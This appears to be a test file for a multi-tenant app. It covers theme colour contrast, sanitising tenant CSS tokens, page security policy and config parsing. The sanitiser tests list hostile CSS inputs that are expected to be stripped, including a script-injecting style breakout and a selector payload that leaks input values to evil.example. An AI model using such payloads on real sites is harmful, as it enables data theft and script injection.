import fc from 'fast-check';
import { publicPagePolicy } from '@/lib/security/page-policy';
import { parseTenantFacts } from '@/lib/tenancy/tenant-facts';
import { contrast } from '@/lib/theme/contrast';
import { customTokens, printTokens, themeTokens } from '@/lib/theme/theme';

const color = fc.integer({ min: 0, max: 0xffffff }).map((value) => `#${value.toString(16).padStart(6, '0')}`);

test('whatever a tenant picks can be read (WCAG AA)', () => {
  fc.assert(
    fc.property(color, color, color, fc.boolean(), (theme_color, titles_txt_color, page_bgcolor, dark) => {
      const tokens = themeTokens({
        dark,
        theme_color,
        titles_txt_color,
        page_bgcolor,
        suppliers_background_image: null,
      });
      const ratio = (one: string, other: string) => contrast(tokens[one] ?? '', tokens[other] ?? '');
      expect(ratio('--color-on-brand', '--color-brand')).toBeGreaterThanOrEqual(4.5);
      for (const name of ['text', 'title', 'muted', 'brand-text', 'danger', 'success']) {
        for (const ground of ['surface', 'card']) {
          expect(ratio(`--color-${name}`, `--color-${ground}`)).toBeGreaterThanOrEqual(4.5);
        }
      }
    }),
  );
});

test('a colour that can be read stays as it is', () => {
  const theme = { dark: false, theme_color: '#b3361b', titles_txt_color: '#3b1d12', page_bgcolor: '#fff8f1' };
  const tokens = themeTokens({ ...theme, suppliers_background_image: null });
  expect(tokens).toMatchObject({
    '--color-brand': '#b3361b',
    '--color-title': '#3b1d12',
    '--color-on-brand': '#ffffff',
  });
});

test.each([
  '</style><script>window.__x=1</script>',
  '@import url(//evil.example)',
  'input[value^=a]{background:url(//evil.example/a)}',
  '--radius: 8px} body{display:none',
  '--radius: url(//evil.example)',
  '--color-brand: #000000',
  'position: fixed',
])('%s changes nothing (guarantee/tenant-style)', (style) => {
  expect(customTokens(style)).toEqual({});
});

test('the allowed names pass with plain lengths (rule tenant/own-style)', () => {
  expect(printTokens(customTokens('--radius: 20px; --card-gap: 1.5rem'))).toBe(
    ':root{--radius:20px;--card-gap:1.5rem}',
  );
});

test('pixel hosts stand in the policy of tenants that have pixels alone', () => {
  expect(
    publicPagePolicy({ pixel_google_analytics: null, pixel_facebook_analytics: null, reportOrigins: [] }),
  ).not.toMatch(/google|facebook/);
  expect(
    publicPagePolicy({ pixel_google_analytics: 'G-A', pixel_facebook_analytics: null, reportOrigins: [] }),
  ).toMatch(/googletagmanager/);
  expect(
    publicPagePolicy({ pixel_google_analytics: 'G-A', pixel_facebook_analytics: null, reportOrigins: [] }),
  ).toContain(`object-src 'none'`);
});

test('a broken config is no config', () => {
  for (const broken of [null, 1, {}, { id: 'x' }, []]) expect(parseTenantFacts(broken)).toBeNull();
});
